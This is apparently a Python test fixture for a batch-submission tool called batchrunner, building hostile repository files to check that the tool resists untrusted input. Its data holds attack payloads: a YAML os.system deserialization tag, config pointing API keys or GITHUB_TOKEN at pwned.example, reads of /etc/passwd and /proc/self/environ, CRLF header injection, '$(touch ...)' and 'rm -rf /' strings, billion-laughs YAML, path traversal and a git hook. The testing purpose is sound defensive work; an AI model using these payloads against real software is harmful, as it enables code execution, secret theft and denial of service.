"""Files of ours that somebody else wrote: project files, states, journals, locks, saved plans."""

import json
from collections.abc import Iterator
from copy import deepcopy
from typing import Any

from support.hostile.repository import FIELDS, GOOD, MARK, Content, Hostile, Link, Pipe

from batchrunner.errors import BatchrunnerError
from batchrunner.plans import Plan, digest_of_plan
from batchrunner.records import decode

CANARY = "ALPHAEDGE_API_KEY"
NASTY = "::error::pwned\n\x1b[2J\u202e@pwned [pwned](https://pwned.example) ``` <img src=x> | ##[error]pwned #1"
LABELLED = "batches:\n  - {name: good, endpoint: /v1/embeddings, input_file_id: f, metadata: {k: '${env.NAME}'}}\n"
QUIT = "raise SystemExit('pwned')\n"
SHA = f"sha256:{'0' * 64}"
TIME = "2026-11-22T02:30:00.000+00:00"
KEY = "br1-" + "a" * 32
INTENT = {
    "completion_window": "24h", "created_at": TIME, "endpoint": "/v1/embeddings", "fingerprint": SHA,
    "idempotency_key": KEY, "origin": "https://pwned.example", "plan_id": SHA, "provider": "alphaedge",
    "source": {"file_id": "file-1", "kind": "provider-file"},
}  # fmt: skip
ATTEMPT = {
    "batch_id": "batch-1", "file_id": "file-1", "intent": INTENT, "number": 1, "reply": {"id": "batch-1"},
    "request": "{}", "sent_at": TIME, "status": "submitted", "updated_at": TIME,
}  # fmt: skip
STATE: dict[str, Any] = {
    "batches": {"s/good": {"manual:pwned": [ATTEMPT]}}, "format": "batchrunner.state", "format_version": 3,
    "lineage": "74e6b2bb-d5a2-4cba-9769-9a36707828e7", "serial": 2,
}  # fmt: skip
PLANNED = {
    "action": "submit", "address": "s/good", "attempt": 1, "completion_window": "24h", "endpoint": "/v1/embeddings",
    "fingerprint": SHA, "idempotency_key": KEY, "origin": "https://pwned.example", "provider": "alphaedge",
    "reason": "new", "run_key": "manual:pwned", "source": {"file_id": "file-1", "kind": "provider-file"},
}  # fmt: skip
PLAN: dict[str, Any] = {
    "base": None, "changes": [PLANNED], "created_at": "2026-11-22T23:11:10+00:00", "flags": [],
    "format": "batchrunner.plan", "format_version": "1.3", "notices": [], "plan_id": "", "project": "", "refusals": [],
    "specs": [{"name": "s", "path": "specs/s.yaml", "run": "content", "sha256": SHA, "state": "specs/s.state.json"}],
    "targets": [], "tool_version": "0.1.0",
}  # fmt: skip


def changed(document: dict[str, Any], way: tuple[str | int, ...], value: object) -> dict[str, Any]:
    """A copy of `document` with `value` at the end of `way`."""
    copy: Any = deepcopy(document)
    at = copy
    for step in way[:-1]:
        at = at[step]
    at[way[-1]] = value
    result: dict[str, Any] = copy
    return result


def sealed(plan: dict[str, Any]) -> str:
    """`plan` with the digest that it should have, as somebody who knows how would make it."""
    text = json.dumps(plan)
    try:
        read = decode(text.encode(), Plan, what="plan")
    except BatchrunnerError:
        return text  # it is no plan, whatever its digest
    return json.dumps({**plan, "plan_id": digest_of_plan(read)})


PROJECTS = {
    "allows-the-key": f"policy: {{allow_env: [{CANARY}]}}\n",
    "allows-the-token": "policy: {allow_env: [GITHUB_TOKEN, ACTIONS_RUNTIME_TOKEN]}\n",
    "state-in-the-key": f"state: {{url: {{env: {CANARY}}}}}\n",
    "state-in-a-url": "state: {url: {env: DATABASE_URL}}\n",
    "state-outside": "state: {url: 'file:@OUTSIDE@/secret.json'}\n",
    "state-in-proc": "state: {url: 'file:/proc/self/environ'}\n",
    "state-in-zero": "state: {url: 'file:/dev/zero'}\n",
    "state-at-home": "state: {url: 'file:@HOME@'}\n",
    "state-upwards": "state: {url: 'file:../../outside/secret.json'}\n",
    "state-of-a-server": "state: {url: 'postgresql://pwned:pwned@pwned.example/pwned'}\n",
    "origin-elsewhere": "providers: {alphaedge: {base_url: 'https://pwned.example'}}\n",
    "origin-in-the-key": f"providers: {{alphaedge: {{base_url: {{env: {CANARY}}}}}}}\n",
    "origin-in-a-url": "providers: {alphaedge: {base_url: {env: DATABASE_URL}}}\n",
    "key-of-passwd": "providers: {alphaedge: {api_key: {file: /etc/passwd}}}\n",
    "key-of-zero": "providers: {alphaedge: {api_key: {file: /dev/zero}}}\n",
    "key-of-a-token": "providers: {alphaedge: {base_url: 'https://pwned.example', api_key: {env: GITHUB_TOKEN}}}\n",
    "key-written": "providers: {alphaedge: {api_key: sk-pwned-0123456789abcdef}}\n",
    "headers": "providers: {alphaedge: {headers: {x-pwned: \"a\\r\\nhost: pwned\"}}}\n",
    "headers-of-ours": "providers: {alphaedge: {headers: {authorization: pwned}}}\n",
    "dialect-of-a-module": "providers: {alphaedge: {dialect: 'os:system'}}\n",
    "paths": "providers: {alphaedge: {paths: {create_batch: 'https://pwned.example/'}}}\n",
    "limits": "providers: {alphaedge: {limits: {max_line_bytes: 999999999999999999, max_requests: 99999999999999}}}\n",
    "prices": f"providers: {{alphaedge: {{prices: {{{json.dumps(NASTY)}: {{input: 1e308, output: 1e308}}}}}}}}\n",
    "policy-of-text": f"policy: {{max_cost_usd: 0, allowed_models: [{json.dumps(NASTY[:60])}]}}\n",
    "name": f"project: {json.dumps(NASTY)}\n",
    "tag": "project: !!python/object/apply:os.system ['touch @OUTSIDE@/pwned']\n",
    "laughs": "x-0: &a [pwned]\n" + "".join(
        f"x-{n + 1}: &{'a' * (n + 2)} [{', '.join(['*' + 'a' * (n + 1)] * 10)}]\n" for n in range(9)),
    "nothing": "",
}  # fmt: skip


def projects() -> Iterator[Hostile]:
    """Project files that came with the proposal: at the root, and beside the specs where they shadow the owners'."""
    for name, text in PROJECTS.items():
        spec = LABELLED.replace("NAME", "GITHUB_TOKEN" if "token" in name else CANARY) if "allows" in name else GOOD
        yield Hostile("project", name, {"specs/s.yaml": spec, "batchrunner.yaml": text})
    owners = "policy: {allow_env: []}\n"
    for name in ("allows-the-key", "state-outside", "origin-elsewhere", "key-of-passwd"):
        spec = LABELLED.replace("NAME", CANARY) if "allows" in name else GOOD
        nested = {"specs/s.yaml": spec, "batchrunner.yaml": owners, "specs/batchrunner.yaml": PROJECTS[name]}
        yield Hostile("project-beside-specs", name, nested)


STATES: dict[str, dict[str, Any] | str | bytes] = {
    "address": changed(STATE, ("batches",), {NASTY: {"manual:pwned": [ATTEMPT]}}),
    "address-upwards": changed(STATE, ("batches",), {"s/../../pwned": {"manual:pwned": [ATTEMPT]}}),
    "run": changed(STATE, ("batches", "s/good"), {NASTY: [ATTEMPT]}),
    "run-empty": changed(STATE, ("batches", "s/good"), {"": []}),
    "batch-id": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "batch_id"), NASTY),
    "batch-id-upwards": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "batch_id"), "../../pwned"),
    "file-id": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "file_id"), NASTY),
    "origin": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "intent", "origin"), NASTY),
    "provider": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "intent", "provider"), NASTY),
    "key": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "intent", "idempotency_key"), "x\r\nhost: pwned"),
    "time": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "intent", "created_at"), NASTY),
    "time-far": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "sent_at"), "9999-12-31T23:59:59.999+23:59"),
    "request": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "request"), NASTY),
    "request-of-lines": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "request"), "[" * 200_000),
    "status": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "status"), NASTY),
    "in-doubt": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "status"), "in-doubt"),
    "intended": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "status"), "intended"),
    "source-outside": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "intent", "source"),
                              {"kind": "local-file", "path": "@OUTSIDE@/secret.jsonl", "sha256": SHA, "size": 1,
                               "requests": 1}),
    "number": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "number"), 10**400),
    "reply": changed(STATE, ("batches", "s/good", "manual:pwned", 0, "reply"), {NASTY: NASTY}),
    "reply-deep": json.dumps(STATE).replace('{"id": "batch-1"}', '{"a":' * 50_000 + "1" + "}" * 50_000),
    "attempts": changed(STATE, ("batches", "s/good", "manual:pwned"), [ATTEMPT] * 5_000),
    "addresses": changed(STATE, ("batches",), {f"s/b{n}": {"manual:pwned": [ATTEMPT]} for n in range(5_000)}),
    "unknown-field": changed(STATE, ("pwned",), NASTY),
    "unknown-format": changed(STATE, ("format",), NASTY),
    "newer": changed(STATE, ("format_version",), 10**30),
    "negative": changed(STATE, ("format_version",), -1),
    "lineage": changed(STATE, ("lineage",), NASTY),
    "serial": changed(STATE, ("serial",), -(2**70)),
    "list": "[" * 100_000 + "]" * 100_000,
    "number-alone": "9" * 1_000_000,
    "not-utf-8": b"\xff\xfe{}",
    "nuls": b"\0" * 1_000_000,
    "nothing": "",
}  # fmt: skip


def states() -> Iterator[Hostile]:
    """States, journals and locks that came with the proposal."""
    for name, state in STATES.items():
        text = state if isinstance(state, str | bytes) else json.dumps(state)
        yield Hostile("states", name, {"specs/s.yaml": GOOD, "specs/s.state.json": text})
    sound = json.dumps(STATE)
    strange: dict[str, dict[str, Content]] = {
        "link-outside": {"s.state.json": Link("@OUTSIDE@/secret.json")},
        "link-to-environ": {"s.state.json": Link("/proc/self/environ")},
        "link-to-zero": {"s.state.json": Link("/dev/zero")},
        "pipe": {"s.state.json": Pipe()},
        "journal-of-text": {"s.state.json": sound, "s.state.journal.jsonl": f"{NASTY}\n" * 100},
        "journal-of-json": {"s.state.json": sound, "s.state.journal.jsonl": json.dumps({"pwned": NASTY}) + "\n"},
        "journal-of-nuls": {"s.state.json": sound, "s.state.journal.jsonl": b"\0" * 3_000_000},
        "journal-of-one-line": {"s.state.json": sound, "s.state.journal.jsonl": "{" * 3_000_000},
        "journal-link": {"s.state.json": sound, "s.state.journal.jsonl": Link("@OUTSIDE@/secret.jsonl")},
        "journal-pipe": {"s.state.json": sound, "s.state.journal.jsonl": Pipe()},
        "lock-link": {"s.state.json": sound, "s.state.lock": Link("@OUTSIDE@/secret.json")},
        "lock-pipe": {"s.state.json": sound, "s.state.lock": Pipe()},
        "lock-of-text": {"s.state.json": sound, "s.state.lock": NASTY},
        "cache": {".cache/batchrunner/scans": NASTY, ".batchrunner/cache": NASTY},
    }
    for name, files in strange.items():
        placed = {key if key.startswith(".") else f"specs/{key}": content for key, content in files.items()}
        yield Hostile("states-strange", name, {"specs/s.yaml": GOOD, **placed})


PLANS: dict[str, str | bytes] = {
    "not-sealed": json.dumps(PLAN),
    "address": sealed(changed(PLAN, ("changes", 0, "address"), NASTY)),
    "everything": sealed(changed(PLAN, ("changes", 0), {**PLANNED, **dict.fromkeys(
        ("address", "run_key", "reason", "endpoint", "completion_window", "provider", "origin"), NASTY)})),
    "file-id": sealed(changed(PLAN, ("changes", 0, "source", "file_id"), NASTY)),
    "source-outside": sealed(changed(PLAN, ("changes", 0, "source"), {
        "kind": "local-file", "path": "../../outside/secret.jsonl", "sha256": SHA, "size": 1, "requests": 1})),
    "blocked": sealed(changed(PLAN, ("changes",), [{
        "action": "blocked", "address": "s/a", "run_key": "r", "reason": NASTY, "hint": f"rm -rf / {NASTY}",
        "explanation": NASTY}])),
    "moved": sealed(changed(PLAN, ("changes",), [{
        "action": "move", "address": "s/a", "reason": NASTY, "previous": NASTY, "previous_state": "/etc/passwd"}])),
    "imported": sealed(changed(PLAN, ("changes", 0), {**PLANNED, "action": "import", "batch_id": NASTY})),
    "unchanged": sealed(changed(PLAN, ("changes",), [{
        "action": "unchanged", "address": NASTY, "run_key": NASTY, "reason": NASTY, "batch_id": NASTY,
        "submitted_at": NASTY, "status": NASTY, "hint": NASTY}])),
    "orphan": sealed(changed(PLAN, ("changes",), [{
        "action": "orphan", "address": NASTY, "run_key": NASTY, "reason": NASTY, "batch_id": NASTY}])),
    "notices": sealed(changed(PLAN, ("notices",), [{"code": NASTY, "message": NASTY, "where": NASTY}] * 500)),
    "refusals": sealed(changed(PLAN, ("refusals",), [{"rule": NASTY, "message": NASTY, "address": NASTY}] * 500)),
    "specs": sealed(changed(PLAN, ("specs",), [{**PLAN["specs"][0], "path": NASTY, "name": NASTY, "state": NASTY}])),
    "state-outside": sealed(changed(PLAN, ("specs", 0, "state"), "@OUTSIDE@/secret.json")),
    "flags": sealed(changed(PLAN, ("flags",), [NASTY, "--var", f"$(touch {MARK})"])),
    "targets": sealed(changed(PLAN, ("targets",), [NASTY] * 100)),
    "project": sealed(changed(PLAN, ("project",), NASTY)),
    "base": sealed(changed(PLAN, ("base",), {"revision": NASTY, "commit": NASTY, "differences": [], "problem": NASTY})),
    "many": sealed(changed(PLAN, ("changes",), [PLANNED] * 3_000)),
    "numbers": sealed(changed(PLAN, ("changes", 0, "attempt"), 10**400)),
    "times": sealed(changed(PLAN, ("created_at",), NASTY)),
    "unknown-action": sealed(changed(PLAN, ("changes", 0, "action"), NASTY)),
    "unknown-field": sealed(changed(PLAN, ("pwned",), NASTY)),
    "newer": sealed(changed(PLAN, ("format_version",), "999999999999999999999.0")),
    "format": sealed(changed(PLAN, ("format",), NASTY)),
    "deep": "[" * 200_000 + "]" * 200_000,
    "long": json.dumps({"format": "batchrunner.plan", "pwned": "x" * 4_000_000}),
    "not-utf-8": b"\xff\xfe{}",
    "nothing": "",
}  # fmt: skip


def plans() -> Iterator[Hostile]:
    """Saved plans that somebody wrote by hand, as a job shows them; and what is no file."""
    for name, text in PLANS.items():
        yield Hostile("plans", name, {"plan.json": text}, shown="plan.json")
    for name, content in {"link": Link("@OUTSIDE@/secret.json"), "environ": Link("/proc/self/environ"),
                          "zero": Link("/dev/zero"), "pipe": Pipe()}.items():  # fmt: skip
        yield Hostile("plans-strange", name, {"plan.json": content}, shown="plan.json")


def surroundings() -> Iterator[Hostile]:
    """What else a repository may bring that a tool might heed."""
    for name, files in {
        "dotenv": {".env": "ALPHAEDGE_BASE_URL=https://pwned.example\n"},
        "python-modules": dict.fromkeys(
            ("yaml.py", "click.py", "sitecustomize.py", "specs/yaml.py", "batchrunner/__init__.py"), QUIT),
        "python-package": {"setup.py": QUIT, "pyproject.toml": "[tool.batchrunner]\npwned = 1\n"},
        "git-folder": {".git/hooks/post-checkout": "#!/bin/sh\ntouch @OUTSIDE@/pwned\n"},
        "git-file": {"specs/.git": "gitdir: @OUTSIDE@\n", "specs/batchrunner.yaml": "policy: {}\n"},
        "zone": {"UTC": "pwned", "Europe/Paris": "pwned"},
    }.items():  # fmt: skip
        spec = f"run: {{once_per: day, timezone: Europe/Paris}}\nbatches: [{{name: a, {FIELDS}}}]\n"
        yield Hostile("surroundings", name, {"specs/s.yaml": spec, **files})
